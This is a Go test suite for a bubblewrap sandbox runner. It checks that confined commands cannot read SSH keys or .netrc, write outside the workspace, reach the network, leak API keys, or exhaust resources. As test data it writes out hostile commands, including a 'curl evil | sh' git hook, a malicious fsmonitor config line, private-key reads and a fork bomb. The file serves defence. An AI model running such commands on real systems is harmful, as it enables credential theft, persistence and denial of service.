package sandbox

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/lunad/lunad"
	"github.com/lunad/lunad/sandbox/shim"
	"github.com/lunad/lunad/sandbox/shim/shimtest"
)

// The tests below run real commands in real bwrap sandboxes (bubblewrap
// must be installed: .ci/run installs it). Each one fails without the
// mechanism it tests: its command tries what the sandbox must stop.

var (
	probeOnce sync.Once
	probed    Capabilities
)

// hostCaps are this host's capabilities; a host that cannot sandbox fails
// the test, saying why.
func hostCaps(t *testing.T) Capabilities {
	t.Helper()
	probeOnce.Do(func() { probed = Probe(context.Background()) })
	if !probed.Usable() {
		t.Fatalf("this host cannot run the sandbox tests (install bubblewrap: apt-get install bubblewrap):\n%s", probed)
	}
	return probed
}

func TestMain(m *testing.M) {
	Init()                           // as lunad's main: what this process inherited stays here
	removeShim := shimtest.Install() // lunad-shim next to this test binary, where New finds it
	code := m.Run()
	removeShim()
	// No command leaves its cgroup behind, whatever way it ended.
	if probed.CgroupDir != "" {
		left, _ := filepath.Glob(filepath.Join(probed.CgroupDir, fmt.Sprintf("%s%d-*", cgroupPrefix, os.Getpid())))
		if len(left) > 0 {
			fmt.Fprintf(os.Stderr, "FAIL: cgroups left behind: %q\n", left)
			code = 1
		}
	}
	os.Exit(code)
}

// newRunner makes a sandboxing Runner whose user's home is a directory of
// the test's, outside /tmp (which the sandbox hides anyway).
func newRunner(t *testing.T) (*Runner, string) {
	t.Helper()
	home := outsideTmp(t)
	r, err := New(hostCaps(t), Options{UserHome: home})
	if err != nil {
		t.Fatal(err)
	}
	if !r.Sandboxed() {
		t.Fatal("the Runner is not sandboxed")
	}
	return r, home
}

// outsideTmp is a new directory outside /tmp, removed after the test.
func outsideTmp(t *testing.T) string {
	t.Helper()
	d, err := os.MkdirTemp("/var/tmp", "lunad-sandbox-test-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(d) })
	return d
}

// workspace is a workspace directory with a .git directory in it.
func workspace(t *testing.T, parent string) string {
	t.Helper()
	root := filepath.Join(parent, "ws")
	if err := os.MkdirAll(filepath.Join(root, ".git", "hooks"), 0o755); err != nil {
		t.Fatal(err)
	}
	return root
}

// runWithin runs s and fails the test if Run has not returned within
// limit (a command that escaped its timeout would hang the suite).
func runWithin(t *testing.T, r *Runner, s Spec, limit time.Duration) Result {
	t.Helper()
	type ran struct {
		res Result
		err error
	}
	done := make(chan ran, 1)
	go func() {
		res, err := r.Run(context.Background(), s)
		done <- ran{res, err}
	}()
	select {
	case d := <-done:
		if d.err != nil {
			t.Fatalf("Run(%q): %v", s.Argv, d.err)
		}
		return d.res
	case <-time.After(limit):
		t.Fatalf("Run(%q) did not return within %v", s.Argv, limit)
	}
	return Result{}
}

func sh(script string) []string { return []string{"/bin/sh", "-c", script} }

func TestProbe(t *testing.T) {
	c := hostCaps(t)
	if c.Bwrap == "" || c.BwrapVersion == "" || c.BwrapVersion == "unknown" {
		t.Errorf("bwrap %q version %q", c.Bwrap, c.BwrapVersion)
	}
	if c.ProcessLimit == "" {
		t.Error("no process limit mechanism named")
	}
	if (c.ProcessLimit == LimitCgroupV1 || c.ProcessLimit == LimitCgroupV2) != (c.CgroupDir != "") {
		t.Errorf("process limit %q with cgroup dir %q", c.ProcessLimit, c.CgroupDir)
	}
	if (c.Landlock > 0) == (c.LandlockError != "") {
		t.Errorf("landlock ABI %d with error %q", c.Landlock, c.LandlockError)
	}
	if c.LandlockApplied != shim.Describe(shim.Handled(c.Landlock, false)) || !strings.Contains(c.String(), "\nlandlock: "+c.LandlockStatus()+"\n") {
		t.Errorf("landlock applied %q at ABI %d:\n%s", c.LandlockApplied, c.Landlock, c)
	}
	s := c.String()
	for _, want := range []string{"bwrap: " + c.Bwrap + " " + c.BwrapVersion, "namespaces: ok", "network namespace: ok", "process limit: " + c.ProcessLimit, "sandbox: usable"} {
		if !strings.Contains(s, want) {
			t.Errorf("String() lacks %q:\n%s", want, s)
		}
	}
	if got := parseBwrapVersion("bubblewrap 0.8.0\n"); got != "0.8.0" {
		t.Errorf("parseBwrapVersion = %q", got)
	}
}

func TestNewRefusesWithoutSandbox(t *testing.T) {
	tests := []struct {
		name string
		caps Capabilities
		want string
	}{
		{"no bwrap", Capabilities{ProcessLimit: LimitRlimit}, "bwrap is not installed (Debian and Ubuntu: apt-get install bubblewrap)"},
		{"no namespaces", Capabilities{Bwrap: "/usr/bin/bwrap", NamespacesError: "bwrap: No permissions to create new namespace"}, "bwrap cannot create namespaces: bwrap: No permissions"},
		{"no network namespace", Capabilities{Bwrap: "/usr/bin/bwrap", Namespaces: true, NetworkError: "bwrap: loopback: Failed RTM_NEWADDR"}, "bwrap cannot create a network namespace"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r, err := New(tt.caps, Options{})
			var ue *UnavailableError
			if !errors.As(err, &ue) || !errors.Is(err, lunad.ErrInvalid) || !errors.Is(err, errors.ErrUnsupported) {
				t.Fatalf("New = %v, %v; want an *UnavailableError wrapping ErrInvalid and ErrUnsupported", r, err)
			}
			for _, want := range []string{tt.want, `unsandboxed = "warn" in .luna/policy.toml`} {
				if !strings.Contains(err.Error(), want) {
					t.Errorf("error %q lacks %q", err, want)
				}
			}
		})
	}
}

// TestUnsandboxedSaysSo: a Runner the policy let run without a sandbox
// runs the command, and its Result says loudly that it was not
// sandboxed; the environment is scrubbed all the same, and a grandchild
// that left the process group (setsid) and ignores TERM is killed through
// the command's cgroup.
func TestUnsandboxedSaysSo(t *testing.T) {
	c := hostCaps(t)
	t.Setenv("OPENAI_API_KEY", "sk-unsandboxed-secret")
	r, err := New(Capabilities{ProcessLimit: c.ProcessLimit, CgroupDir: c.CgroupDir}, Options{AllowUnsandboxed: true, UserHome: outsideTmp(t)})
	if err != nil {
		t.Fatal(err)
	}
	if r.Sandboxed() {
		t.Fatal("Sandboxed() without bwrap")
	}
	root := workspace(t, t.TempDir())
	marker := uniqueSleep(t)
	script := "env; setsid sh -c 'trap \"\" TERM; echo > ready; exec sleep " + marker + "' & while [ ! -e ready ]; do sleep 0.01; done"
	res := runWithin(t, r, Spec{Argv: sh(script), Root: root, Grace: 100 * time.Millisecond}, 20*time.Second)
	if res.Sandboxed || !strings.HasPrefix(res.Warning, "UNSANDBOXED: ") || !strings.Contains(res.Warning, "bwrap is not installed") {
		t.Errorf("Sandboxed %v Warning %q; want a loud warning", res.Sandboxed, res.Warning)
	}
	if strings.Contains(res.Stdout.Text, "sk-unsandboxed-secret") || !strings.Contains(res.Stdout.Text, "PATH=") {
		t.Errorf("the environment passed the key, or no PATH:\n%s", res.Stdout.Text)
	}
	if c.CgroupDir != "" {
		assertGone(t, marker)
	}
}

// TestHomeHidden: the user's ~/.ssh cannot be read, even by its absolute
// path and with the workspace inside the home, while the workspace and
// lunad's own home for commands can.
func TestHomeHidden(t *testing.T) {
	t.Parallel()
	r, home := newRunner(t)
	writeFiles(t, home, map[string]string{".ssh/id_ed25519": "PRIVATE-KEY", ".netrc": "machine x password y", "ws/main.go": "package main"})
	cacheHome := filepath.Join(home, ".cache", "lunad", "home")
	if err := os.MkdirAll(cacheHome, 0o755); err != nil {
		t.Fatal(err)
	}
	root := filepath.Join(home, "ws")
	tests := []struct {
		name   string
		script string
	}{
		{"by absolute path", "cat " + home + "/.ssh/id_ed25519"},
		{"by ~", "cat ~/.ssh/id_ed25519"},
		{"by listing", "ls -a " + home + " " + home + "/.ssh"},
		{"by climbing out of the workspace", "cat ../.netrc ../.ssh/id_ed25519"},
		{"by find", "find / -path /usr -prune -o -path /proc -prune -o -name id_ed25519 -print; grep -rs PRIVATE-KEY " + home + " /etc /opt"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			res := runWithin(t, r, Spec{Argv: sh(tt.script), Root: root, Home: cacheHome}, 20*time.Second)
			if strings.Contains(res.Stdout.Text, "PRIVATE-KEY") || strings.Contains(res.Stdout.Text, "password") || strings.Contains(res.Stdout.Text, "id_ed25519") {
				t.Errorf("the command read the user's home:\n%s", res.Stdout.Text)
			}
		})
	}
	res := runWithin(t, r, Spec{Argv: sh("cat main.go; echo; echo $HOME; touch $HOME/cached"), Root: root, Home: cacheHome}, 20*time.Second)
	if res.ExitCode != 0 || res.Stdout.Text != "package main\n"+cacheHome+"\n" {
		t.Errorf("the workspace and lunad's home: exit %d, stdout %q, stderr %q", res.ExitCode, res.Stdout.Text, res.Stderr.Text)
	}
	if _, err := os.Stat(filepath.Join(cacheHome, "cached")); err != nil {
		t.Errorf("lunad's home for commands is not writable: %v", err)
	}
}

// TestWritesOutsideRootFail: writes outside the workspace fail and leave
// nothing on the host; /tmp is the command's own.
func TestWritesOutsideRootFail(t *testing.T) {
	t.Parallel()
	r, _ := newRunner(t)
	root := workspace(t, t.TempDir())
	outside := outsideTmp(t)
	hostTmp := filepath.Join(os.TempDir(), fmt.Sprintf("lunad-sandbox-private-tmp-%d", os.Getpid()))
	tests := []struct {
		name   string
		script string
		host   string // the file that must not exist on the host afterwards
	}{
		{"a directory outside", "echo x > " + outside + "/escaped", outside + "/escaped"},
		{"the parent of the workspace", "echo x > ../escaped", filepath.Dir(root) + "/escaped"},
		{"the system", "echo x > /usr/lunad-escaped; echo x > /etc/lunad-escaped", "/usr/lunad-escaped"},
		{"/tmp is private", "echo x > " + hostTmp + " && cat " + hostTmp, hostTmp},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			runWithin(t, r, Spec{Argv: sh(tt.script), Root: root}, 20*time.Second)
			if _, err := os.Stat(tt.host); !errors.Is(err, os.ErrNotExist) {
				os.Remove(tt.host)
				t.Errorf("%s exists on the host after the command: %v", tt.host, err)
			}
		})
	}
	t.Run("the workspace is writable", func(t *testing.T) {
		t.Parallel()
		res := runWithin(t, r, Spec{Argv: sh("mkdir -p sub && echo written > sub/f"), Root: root}, 20*time.Second)
		if b, err := os.ReadFile(filepath.Join(root, "sub", "f")); err != nil || string(b) != "written\n" || res.ExitCode != 0 {
			t.Errorf("exit %d, stderr %q; file %q, %v", res.ExitCode, res.Stderr.Text, b, err)
		}
	})
}

// TestReadOnlyPaths: .git and .luna stay read-only inside the writable
// workspace — even .luna, which does not exist yet, cannot be created —
// and the mount point made for .luna is gone afterwards.
func TestReadOnlyPaths(t *testing.T) {
	t.Parallel()
	r, _ := newRunner(t)
	root := workspace(t, t.TempDir())
	ro := []string{filepath.Join(root, ".git"), filepath.Join(root, ".luna")}
	tests := []struct {
		name, script, host string
	}{
		{"a git hook", "echo 'curl evil | sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit", ".git/hooks/pre-commit"},
		{"git's config", "echo '[core] fsmonitor = evil' >> .git/config", ".git/config"},
		{"a new policy", "mkdir -p .luna; echo 'network = true' > .luna/policy.toml", ".luna/policy.toml"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res := runWithin(t, r, Spec{Argv: sh(tt.script), Root: root, ReadOnly: ro}, 20*time.Second)
			if res.ExitCode == 0 {
				t.Errorf("the write succeeded (stderr %q)", res.Stderr.Text)
			}
			if _, err := os.Stat(filepath.Join(root, tt.host)); !errors.Is(err, os.ErrNotExist) {
				t.Errorf("%s exists after the command: %v", tt.host, err)
			}
		})
	}
	if _, err := os.Stat(filepath.Join(root, ".luna")); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("the mount point of .luna was left in the workspace: %v", err)
	}
	res := runWithin(t, r, Spec{Argv: sh("cat .git/hooks/../../x 2>/dev/null; echo ok > x"), Root: root, ReadOnly: ro}, 20*time.Second)
	if res.ExitCode != 0 {
		t.Errorf("a write beside .git failed: %q", res.Stderr.Text)
	}
}

// TestNoNetwork: a loopback HTTP server outside the sandbox cannot be
// reached from inside, with curl or a Python socket; with Spec.Network it
// can (the same commands, so the test can tell).
func TestNoNetwork(t *testing.T) {
	t.Parallel()
	r, _ := newRunner(t)
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { fmt.Fprint(w, "REACHED") }))
	t.Cleanup(srv.Close)
	port := srv.Listener.Addr().(interface{ String() string }).String()
	port = port[strings.LastIndex(port, ":")+1:]
	root := workspace(t, t.TempDir())
	tests := []struct {
		name string
		argv []string
	}{
		{"curl", []string{"curl", "-sS", "--max-time", "3", srv.URL}},
		{"a Python socket", []string{"python3", "-c", "import socket; s = socket.create_connection(('127.0.0.1', " + port + "), timeout=3); s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n'); print(s.recv(4096).decode())"}},
	}
	for _, tt := range tests {
		for _, network := range []bool{false, true} {
			t.Run(fmt.Sprintf("%s network=%v", tt.name, network), func(t *testing.T) {
				t.Parallel()
				res := runWithin(t, r, Spec{Argv: tt.argv, Root: root, Network: network}, 20*time.Second)
				reached := strings.Contains(res.Stdout.Text, "REACHED")
				if reached != network {
					t.Errorf("reached the server: %v; want %v (exit %d, stderr %q)", reached, network, res.ExitCode, res.Stderr.Text)
				}
			})
		}
	}
}

// TestOutputFlood: 1 GiB of output is read as it comes and capped: the
// Result keeps the head and the tail and says how much was cut, and lunad
// allocates a few buffers, not the flood.
func TestOutputFlood(t *testing.T) {
	r, _ := newRunner(t)
	root := workspace(t, t.TempDir())
	const flood = 1 << 30
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	res := runWithin(t, r, Spec{Argv: sh(fmt.Sprintf("echo START; head -c %d /dev/zero; echo; echo END", flood)), Root: root, Limits: Limits{Output: 1024}}, 60*time.Second)
	runtime.ReadMemStats(&after)
	if alloc := after.TotalAlloc - before.TotalAlloc; alloc > 32<<20 {
		t.Errorf("lunad allocated %d bytes while reading the flood; want it bounded (< 32 MiB)", alloc)
	}
	out := res.Stdout
	if want := int64(len("START\n") + flood + len("\nEND\n")); out.Total != want || out.Cut != want-1024 {
		t.Errorf("Total %d Cut %d; want %d and %d", out.Total, out.Cut, want, want-1024)
	}
	cut := fmt.Sprintf("\n[… %s bytes cut …]\n", thousands(out.Cut))
	if !strings.HasPrefix(out.Text, "START\n\x00\x00") || !strings.HasSuffix(out.Text, "\x00\x00\nEND\n") || !strings.Contains(out.Text, cut) || len(out.Text) != 1024+len(cut) {
		t.Errorf("text of %d bytes: head %q, tail %q; want START…, the line %q, …END", len(out.Text), out.Text[:min(20, len(out.Text))], out.Text[max(0, len(out.Text)-20):], cut)
	}
}

// TestForkBomb: a fork bomb meets the process limit: its forks are
// refused (Hit "processes"), and it ends (dash gives up when a fork
// fails) or its timeout ends it.
func TestForkBomb(t *testing.T) {
	t.Parallel()
	r, _ := newRunner(t)
	if r.caps.ProcessLimit != LimitCgroupV1 && r.caps.ProcessLimit != LimitCgroupV2 {
		t.Fatalf("the fork bomb test needs a pids cgroup (this host: %s: %s)", r.caps.ProcessLimit, r.caps.ProcessLimitNote)
	}
	root := workspace(t, t.TempDir())
	// Bounded (2^10 processes), so that a broken limit cannot sink the
	// host, yet far beyond the limit of 32.
	bomb := `b() { if [ "$1" -gt 0 ]; then b $(($1-1)) & b $(($1-1)) & fi; sleep 30; }; b 10`
	start := time.Now()
	res := runWithin(t, r, Spec{Argv: sh(bomb), Root: root, Timeout: 2 * time.Second, Grace: 200 * time.Millisecond, Limits: Limits{Processes: 32}}, 30*time.Second)
	if !slices.Contains(res.Hit, "processes") {
		t.Errorf("Hit %q; want the process limit hit (stderr %q)", res.Hit, res.Stderr.Text[:min(200, len(res.Stderr.Text))])
	}
	if res.Ended != "" && res.Ended != "timeout" || time.Since(start) > 10*time.Second {
		t.Errorf("Ended %q after %v; want it to end by itself or at its timeout of 2 s", res.Ended, time.Since(start))
	}
}

// TestTimeout: `sleep infinity` is ended at its timeout by TERM.
func TestTimeout(t *testing.T) {
	t.Parallel()
	r, _ := newRunner(t)
	root := workspace(t, t.TempDir())
	res := runWithin(t, r, Spec{Argv: []string{"sleep", "infinity"}, Root: root, Timeout: 300 * time.Millisecond, Grace: 5 * time.Second}, 20*time.Second)
	if res.Ended != "timeout" || res.Signal != "SIGTERM" || res.ExitCode != -1 {
		t.Errorf("Ended %q Signal %q ExitCode %d; want timeout by SIGTERM", res.Ended, res.Signal, res.ExitCode)
	}
	if res.Duration < 300*time.Millisecond || res.Duration > 5*time.Second {
		t.Errorf("Duration %v; want about the timeout, well before the grace period ends", res.Duration)
	}
}

// TestTermFirst: a command being ended is sent TERM first and can clean
// up. The end comes once its trap is set (it says so by a file): ended by
// a fixed timeout instead, a loaded machine could send TERM before the
// shell has read its trap, and the test would measure the start-up time.
// Timeouts and cancellation end a command the same way (Runner.wait);
// TestTimeout covers the timeout.
func TestTermFirst(t *testing.T) {
	t.Parallel()
	r, _ := newRunner(t)
	root := workspace(t, t.TempDir())
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	type ran struct {
		res Result
		err error
	}
	done := make(chan ran, 1)
	go func() {
		res, err := r.Run(ctx, Spec{Argv: sh(`trap 'echo cleaned > cleaned; exit 3' TERM; echo > ready; while :; do sleep 0.05; done`), Root: root, Timeout: time.Minute, Grace: time.Minute})
		done <- ran{res, err}
	}()
	deadline := time.After(30 * time.Second)
	for {
		if _, err := os.Stat(filepath.Join(root, "ready")); err == nil {
			break
		}
		select {
		case d := <-done:
			t.Fatalf("the command ended before it was ready: %+v, %v", d.res, d.err)
		case <-deadline:
			t.Fatal("the command did not get ready within 30s")
		case <-time.After(10 * time.Millisecond):
		}
	}
	cancel()
	var d ran
	select {
	case d = <-done:
	case <-time.After(30 * time.Second):
		t.Fatal("Run did not return within 30s of its cancellation")
	}
	if d.err != nil {
		t.Fatal(d.err)
	}
	if b, err := os.ReadFile(filepath.Join(root, "cleaned")); err != nil || string(b) != "cleaned\n" {
		t.Errorf("the command did not get TERM: %q, %v", b, err)
	}
	if d.res.Ended != "cancelled" || d.res.ExitCode != 3 {
		t.Errorf("Ended %q ExitCode %d Signal %q; want cancelled, exit 3 (its TERM trap's)", d.res.Ended, d.res.ExitCode, d.res.Signal)
	}
}

// TestGrandchildIgnoringTerm: a command and its grandchild both ignore
// TERM; after the grace period both are killed.
func TestGrandchildIgnoringTerm(t *testing.T) {
	t.Parallel()
	r, _ := newRunner(t)
	root := workspace(t, t.TempDir())
	marker := uniqueSleep(t)
	script := `trap '' TERM; sh -c 'trap "" TERM; echo > ready; exec setsid sleep ` + marker + `' & wait`
	res := runWithin(t, r, Spec{Argv: sh(script), Root: root, Timeout: 300 * time.Millisecond, Grace: 300 * time.Millisecond}, 20*time.Second)
	if res.Ended != "timeout" || res.Signal != "SIGKILL" {
		t.Errorf("Ended %q Signal %q; want timeout, SIGKILL after the grace period", res.Ended, res.Signal)
	}
	if res.Duration < 600*time.Millisecond {
		t.Errorf("Duration %v; want the timeout and the grace period", res.Duration)
	}
	if _, err := os.Stat(filepath.Join(root, "ready")); err != nil {
		t.Errorf("the grandchild never started: %v", err)
	}
	assertGone(t, marker)
}

// uniqueSleep is a duration for sleep that names this test's process.
func uniqueSleep(t *testing.T) string {
	return fmt.Sprintf("1000.%d%d", os.Getpid(), time.Now().UnixNano()%1e6)
}

// assertGone fails if a process whose command line has marker is alive.
func assertGone(t *testing.T, marker string) {
	t.Helper()
	ents, _ := os.ReadDir("/proc")
	for _, e := range ents {
		b, err := os.ReadFile("/proc/" + e.Name() + "/cmdline")
		if err == nil && strings.Contains(string(b), marker) {
			t.Errorf("process %s (%q) outlived the command", e.Name(), strings.ReplaceAll(string(b), "\x00", " "))
		}
	}
}

// TestFileSizeLimit: a command filling the disk stops at FileSize.
func TestFileSizeLimit(t *testing.T) {
	t.Parallel()
	r, _ := newRunner(t)
	root := workspace(t, t.TempDir())
	res := runWithin(t, r, Spec{Argv: sh("head -c 10485760 /dev/zero > big"), Root: root, Limits: Limits{FileSize: 1 << 20}}, 20*time.Second)
	fi, err := os.Stat(filepath.Join(root, "big"))
	if err != nil || fi.Size() != 1<<20 {
		t.Errorf("big: %v, %v; want 1 MiB exactly", fi, err)
	}
	if res.Ended != "file_size" || !slices.Equal(res.Hit, []string{"file_size"}) {
		t.Errorf("Ended %q Hit %q Signal %q exit %d; want file_size", res.Ended, res.Hit, res.Signal, res.ExitCode)
	}
}

// TestCPULimit: a busy loop is stopped at its CPU time, long before its
// timeout.
func TestCPULimit(t *testing.T) {
	t.Parallel()
	r, _ := newRunner(t)
	root := workspace(t, t.TempDir())
	res := runWithin(t, r, Spec{Argv: sh("while :; do :; done"), Root: root, Timeout: 8 * time.Second, Limits: Limits{CPU: time.Second}}, 30*time.Second)
	if res.Ended != "cpu" || res.Signal != "SIGXCPU" {
		t.Errorf("Ended %q Signal %q after %v; want cpu (SIGXCPU)", res.Ended, res.Signal, res.Duration)
	}
}

// TestMemoryLimit: an allocation beyond the memory limit fails.
func TestMemoryLimit(t *testing.T) {
	t.Parallel()
	r, _ := newRunner(t)
	root := workspace(t, t.TempDir())
	alloc := []string{"python3", "-c", "b = bytearray(256 << 20); print('allocated')"}
	res := runWithin(t, r, Spec{Argv: alloc, Root: root, Limits: Limits{Memory: 128 << 20}}, 20*time.Second)
	if res.ExitCode == 0 || !strings.Contains(res.Stderr.Text, "MemoryError") {
		t.Errorf("exit %d stdout %q stderr %q; want a MemoryError", res.ExitCode, res.Stdout.Text, res.Stderr.Text)
	}
	res = runWithin(t, r, Spec{Argv: alloc, Root: root, Limits: Limits{Memory: 1 << 30}}, 20*time.Second)
	if res.ExitCode != 0 || res.Stdout.Text != "allocated\n" {
		t.Errorf("under the limit: exit %d stderr %q", res.ExitCode, res.Stderr.Text)
	}
}

// TestEnvScrubbed: none of lunad's environment reaches the command but
// the base and what the Spec sets.
func TestEnvScrubbed(t *testing.T) {
	secrets := map[string]string{"OPENAI_API_KEY": "sk-test-openai", "ANTHROPIC_API_KEY": "sk-ant-test", "GITHUB_TOKEN": "ghp_test", "AWS_SECRET_ACCESS_KEY": "aws-test-secret", "SSH_AUTH_SOCK": "/tmp/agent.sock"}
	for k, v := range secrets {
		t.Setenv(k, v)
	}
	r, _ := newRunner(t)
	root := workspace(t, t.TempDir())
	res := runWithin(t, r, Spec{Argv: []string{"env"}, Root: root, Env: map[string]string{"PYTHONDONTWRITEBYTECODE": "1"}}, 20*time.Second)
	for k, v := range secrets {
		if strings.Contains(res.Stdout.Text, k) || strings.Contains(res.Stdout.Text, v) {
			t.Errorf("%s passed into the sandbox", k)
		}
	}
	var names []string
	for line := range strings.Lines(res.Stdout.Text) {
		k, _, _ := strings.Cut(line, "=")
		names = append(names, k)
	}
	slices.Sort(names)
	if want := []string{"HOME", "LANG", "PATH", "PWD", "PYTHONDONTWRITEBYTECODE", "TERM", "TMPDIR"}; !slices.Equal(names, want) {
		t.Errorf("the command's variables %q; want %q", names, want)
	}
}

// TestRunRefusesBadSpec: a Dir outside the workspace is refused before
// anything runs.
func TestRunRefusesBadSpec(t *testing.T) {
	t.Parallel()
	r, _ := newRunner(t)
	root := workspace(t, t.TempDir())
	outside := outsideTmp(t)
	_, err := r.Run(context.Background(), Spec{Argv: sh("touch ran"), Root: root, Dir: outside})
	if !errors.Is(err, lunad.ErrInvalid) || !strings.Contains(err.Error(), "is outside the workspace") {
		t.Errorf("Run = %v; want ErrInvalid: outside the workspace", err)
	}
	if _, err := os.Stat(filepath.Join(outside, "ran")); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("the command ran: %v", err)
	}
	_, err = r.Run(context.Background(), Spec{Argv: []string{"no-such-program-lunad"}, Root: root})
	if !errors.Is(err, lunad.ErrNotFound) || !strings.Contains(err.Error(), `program "no-such-program-lunad" is not on the command's PATH`) {
		t.Errorf("Run = %v; want ErrNotFound naming the program", err)
	}
}

// TestStdinAndExit: stdin reaches the command, its exit code comes back,
// and a cancelled context ends it as a timeout does (TERM first).
func TestStdinAndExit(t *testing.T) {
	t.Parallel()
	r, _ := newRunner(t)
	root := workspace(t, t.TempDir())
	res := runWithin(t, r, Spec{Argv: sh("cat; exit 7"), Root: root, Stdin: []byte("from stdin")}, 20*time.Second)
	if res.Stdout.Text != "from stdin" || res.ExitCode != 7 || res.Ended != "" || res.Signal != "" {
		t.Errorf("stdout %q exit %d ended %q signal %q", res.Stdout.Text, res.ExitCode, res.Ended, res.Signal)
	}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan Result, 1)
	go func() {
		res, _ := r.Run(ctx, Spec{Argv: sh("echo started; sleep 1000"), Root: root})
		done <- res
	}()
	time.AfterFunc(200*time.Millisecond, cancel)
	select {
	case res := <-done:
		if res.Ended != "cancelled" || res.Signal != "SIGTERM" {
			t.Errorf("Ended %q Signal %q; want cancelled by TERM, as a timeout", res.Ended, res.Signal)
		}
	case <-time.After(20 * time.Second):
		t.Fatal("a cancelled Run did not return")
	}
}

// TestSweepStaleCgroups: the cgroup of a daemon that is gone is removed
// by the next Probe, and what was left running in it is killed.
func TestSweepStaleCgroups(t *testing.T) {
	c := hostCaps(t)
	if c.CgroupDir == "" {
		t.Fatalf("no pids cgroup on this host (%s: %s)", c.ProcessLimit, c.ProcessLimitNote)
	}
	gone := exec.Command("true")
	if err := gone.Run(); err != nil {
		t.Fatal(err)
	}
	dir := filepath.Join(c.CgroupDir, fmt.Sprintf("%s%d-1", cgroupPrefix, gone.Process.Pid))
	if err := os.Mkdir(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	left := exec.Command("sleep", uniqueSleep(t))
	if err := left.Start(); err != nil {
		t.Fatal(err)
	}
	if err := (&cgroup{dir: dir}).add(left.Process.Pid); err != nil {
		t.Fatal(err)
	}
	mine := filepath.Join(c.CgroupDir, fmt.Sprintf("%s%d-999999", cgroupPrefix, os.Getpid()))
	if err := os.Mkdir(mine, 0o755); err != nil {
		t.Fatal(err)
	}
	defer os.Remove(mine)
	sweepCgroups(c.CgroupDir)
	if err := left.Wait(); err == nil || !strings.Contains(err.Error(), "killed") {
		t.Errorf("the process left in the stale cgroup: %v; want it killed", err)
	}
	if _, err := os.Stat(dir); !errors.Is(err, os.ErrNotExist) {
		os.Remove(dir)
		t.Errorf("the stale cgroup is still there: %v", err)
	}
	if _, err := os.Stat(mine); err != nil {
		t.Errorf("the sweep removed a cgroup of this live process: %v", err)
	}
}
